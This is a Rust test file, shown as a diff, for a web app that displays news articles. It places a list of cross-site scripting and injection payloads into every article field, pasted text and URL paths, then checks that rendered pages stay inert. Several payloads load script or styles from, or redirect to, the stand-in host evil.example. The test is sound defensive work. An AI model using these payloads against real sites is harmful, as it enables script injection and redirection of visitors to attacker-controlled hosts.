@@ -1,0 +1,269 @@
+//! Attacks in every field of an article, over every page: nothing of them becomes markup, script or an address of ours.
+
+mod site;
+
+use html5ever::tokenizer::{
+    BufferQueue, StartTag, Tag, TagToken, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
+};
+use selon_text::{BlockKind, ByteRange, Document, Link};
+use selon_web::App;
+use site::{page, plain, read, with_articles};
+use std::cell::RefCell;
+
+/// Each ends what it may stand in and begins something that acts.
+const ATTACKS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "\"><img src=x onerror=alert(2)>",
+    "' autofocus onfocus='alert(3)",
+    "</title></textarea></style></svg><script src=//evil.example/x.js></script>",
+    "<svg/onload=alert(4)><animate onbegin=alert(5)>",
+    "<iframe srcdoc='<script>alert(6)</script>'></iframe>",
+    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<style>*{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>",
+    "{{7*7}}${7*7}<%= 7*7 %>",
+    "&lt;script&gt;alert(7)&lt;/script&gt;",
+    "<form action=//evil.example><button>x</button></form>",
+    "\u{202e}<b onmouseover=alert(8)>\u{0}\u{1b}[31m",
+    "<math><mtext></mtext><script>alert(9)</script></math>",
+];
+
+#[derive(Default)]
+struct Tags(RefCell<Vec<Tag>>);
+
+impl TokenSink for Tags {
+    type Handle = ();
+
+    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
+        if let TagToken(tag) = token
+            && tag.kind == StartTag
+        {
+            self.0.borrow_mut().push(tag);
+        }
+        TokenSinkResult::Continue
+    }
+}
+
+fn tags(html: &str) -> Vec<Tag> {
+    let tokenizer = Tokenizer::new(Tags::default(), TokenizerOpts::default());
+    let queue = BufferQueue::default();
+    queue.push_back(html.into());
+    let _ = tokenizer.feed(&queue);
+    tokenizer.end();
+    tokenizer.sink.0.into_inner()
+}
+
+/// Elements that our pages have; an attack that gets through most likely is none of them.
+const OURS: &[&str] = &[
+    "html",
+    "head",
+    "meta",
+    "title",
+    "link",
+    "script",
+    "body",
+    "a",
+    "header",
+    "nav",
+    "ul",
+    "ol",
+    "li",
+    "form",
+    "label",
+    "input",
+    "button",
+    "main",
+    "footer",
+    "p",
+    "h1",
+    "h2",
+    "h3",
+    "textarea",
+    "article",
+    "section",
+    "div",
+    "span",
+    "bdi",
+    "details",
+    "summary",
+    "dl",
+    "dt",
+    "dd",
+    "table",
+    "caption",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "select",
+    "option",
+    "svg",
+    "g",
+    "rect",
+    "path",
+    "circle",
+    "text",
+    "tspan",
+    "line",
+    "polyline",
+    "polygon",
+    "defs",
+    "marker",
+    "pattern",
+    "time",
+    "mark",
+    "del",
+    "ins",
+    "figure",
+    "figcaption",
+    "blockquote",
+    "b",
+    "i",
+    "em",
+    "strong",
+    "small",
+    "abbr",
+    "code",
+    "br",
+    "hr",
+    "fieldset",
+    "legend",
+    "desc",
+    "use",
+    "symbol",
+    "ellipse",
+    "aside",
+];
+
+/// Looks at every tag of a page.
+fn harmless(told: &str, html: &str) {
+    let tags = tags(html);
+    assert!(tags.len() > 20, "{told}: no page");
+    for tag in tags {
+        let name = tag.name.to_string();
+        assert!(OURS.contains(&name.as_str()), "{told}: <{name}>");
+        for attribute in &tag.attrs {
+            let (key, value) = (attribute.name.local.to_string(), attribute.value.to_string());
+            assert!(!key.starts_with("on") && key != "style" && key != "srcdoc", "{told}: <{name} {key}={value}>");
+            if ["href", "src", "action", "formaction"].contains(&key.as_str()) {
+                let is_ours = value.starts_with('/') && !value.starts_with("//") || value.starts_with(['#', '?']);
+                let outside = name == "a" && (value.starts_with("https://") || value.starts_with("http://"));
+                assert!(is_ours || outside, "{told}: <{name} {key}={value}>");
+            }
+            if name == "meta" {
+                assert_ne!(key, "http-equiv", "{told}");
+            }
+        }
+        if name == "script" {
+            let from =
+                tag.attrs.iter().find(|attribute| &*attribute.name.local == "src").map(|src| src.value.to_string());
+            assert!(from.is_some_and(|from| from.starts_with("/static/")), "{told}: a script of its own");
+        }
+    }
+    assert!(!html.contains('\0') && !html.contains('\u{1b}'), "{told}: control characters");
+}
+
+/// An article with the attack in every field that it has.
+fn article(number: usize, attack: &str) -> Document {
+    let text = format!(
+        "{attack}\n\nLe maire, {attack}, a déclaré que {attack} le pont fermerait. « {attack} la digue tient », a dit Maud Orvel {attack}.\n\n\
+         Un responsable qui n'a pas voulu être nommé a démenti {attack}. Donc {attack} le pont est fini."
+    );
+    let (length, start) = (text.len(), attack.len() + 2);
+    Document {
+        title: Some(format!("{attack} a dit non")),
+        authors: vec![attack.to_owned(), "Maud Orvel".to_owned()],
+        outlet: Some(format!("Gazette {attack}")),
+        url: Some(format!("javascript:alert({number})//{attack}")),
+        file: Some(format!("/tmp/{attack}")),
+        canonical: Some(attack.to_owned()),
+        published: Some(format!("2031-02-03T08:00:00Z{attack}")),
+        language: Some("fr".to_owned()),
+        genre: Some(attack.to_owned()),
+        translated_from: Some(attack.to_owned()),
+        links: vec![Link { span: ByteRange::new(start, length.min(start + 8)), href: format!("javascript:{attack}") }],
+        blocks: vec![selon_text::Block { span: ByteRange::new(start, length), kind: BlockKind::Quotation }],
+        notes: vec![attack.to_owned()],
+        sha256: format!("{number:064x}"),
+        title_apart: true,
+        ..Document::from_text(format!("n{number}{attack}"), text)
+    }
+}
+
+/// Every address that the page links to on this server.
+fn links(html: &str) -> Vec<String> {
+    let tags = tags(html);
+    let hrefs = tags.iter().filter(|tag| &*tag.name == "a").flat_map(|tag| &tag.attrs);
+    let ours = hrefs.filter(|attribute| &*attribute.name.local == "href" && attribute.value.starts_with('/'));
+    ours.map(|attribute| attribute.value.split('#').next().unwrap_or("").to_owned()).collect()
+}
+
+/// Follows every link from the first page, each address once; looks at all that come.
+fn walk(app: &App, from: &[String], most: usize) -> usize {
+    let (mut waiting, mut seen) = (from.to_vec(), std::collections::BTreeSet::new());
+    while let Some(path) = waiting.pop() {
+        if seen.len() >= most || !seen.insert(path.clone()) {
+            continue;
+        }
+        let answered = app.answer(site::get(&path)).unwrap();
+        assert!(answered.status < 500, "{path}: {}", answered.status);
+        if answered.header("content-type").starts_with("text/html") {
+            let html = answered.text();
+            harmless(&path, &html);
+            waiting.extend(links(&html));
+        } else {
+            assert_eq!(answered.header("x-content-type-options"), "nosniff", "{path}");
+        }
+    }
+    seen.len()
+}
+
+#[test]
+fn attacks_in_every_field_stay_words_on_every_page() {
+    let articles: Vec<Document> = ATTACKS.iter().enumerate().map(|(number, attack)| article(number, attack)).collect();
+    let documents: Vec<String> = articles.iter().map(|article| address_of(&article.id)).collect();
+    let (_folder, app) = with_articles(articles);
+    let mut from = vec!["/".to_owned(), "/read".to_owned()];
+    for document in &documents {
+        let (status, html) = page(&app, document);
+        assert_eq!(status, 200, "{document}");
+        assert!(html.contains("class=\"mark"), "{document}: no statement to attack in");
+        from.push(document.clone());
+    }
+    assert!(walk(&app, &from, 400) > 20);
+}
+
+/// As `links::document` makes it.
+fn address_of(id: &str) -> String {
+    let encoded: String = id.bytes().map(|byte| format!("%{byte:02X}")).collect();
+    format!("/document/{encoded}")
+}
+
+#[test]
+fn attacks_in_a_pasted_text_stay_words() {
+    let app = plain();
+    for attack in ATTACKS {
+        let text = format!(
+            "Un communiqué {attack}. Le maire a déclaré que {attack} le pont fermerait, a dit {attack} Maud Orvel."
+        );
+        let address = read(&app, &text);
+        harmless(&address, &page(&app, &address).1);
+    }
+}
+
+#[test]
+fn attacks_in_the_address_stay_words() {
+    let app = plain();
+    for attack in ATTACKS {
+        let encoded: String = attack.bytes().map(|byte| format!("%{byte:02X}")).collect();
+        for path in [
+            format!("/{encoded}"),
+            format!("/read/{encoded}?q={encoded}&lang={encoded}&look={encoded}"),
+            format!("/document/{encoded}?speaker={encoded}&{encoded}={encoded}"),
+        ] {
+            let (status, html) = page(&app, &path);
+            assert_eq!(status, 404, "{path}");
+            harmless(&path, &html);
+        }
+    }
+}
